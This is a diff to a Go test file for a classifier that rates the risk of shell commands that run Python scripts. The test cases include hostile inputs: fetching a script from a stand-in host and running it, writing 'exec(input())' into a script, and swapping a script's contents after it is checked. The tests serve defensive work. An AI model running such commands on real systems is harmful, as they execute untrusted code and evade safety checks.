@@ -59,9 +59,10 @@ func TestPythonScripts(t *testing.T) {
 		{"cd src && python3 ../pure.py", Moderate, true},
 		{"python3 wipes.py", Blocked, true},
 		{"python3 opaque.py", Moderate, false},
-		{"python3 missing.py", Moderate, false},
+		{"python3 missing.py", Moderate, true},
 		{"cp opaque.py pure.py && python3 pure.py", Moderate, false},
 		{"python3 pure.py; cp opaque.py pure.py", Moderate, false},
+		{"python3 pure.py & cp opaque.py pure.py", Moderate, false},
 		{"echo 'exec(input())' > pure.py; python3 pure.py", Moderate, false},
 		{"curl -s http://x.example -o pure.py && python3 pure.py", Moderate, false},
 	}
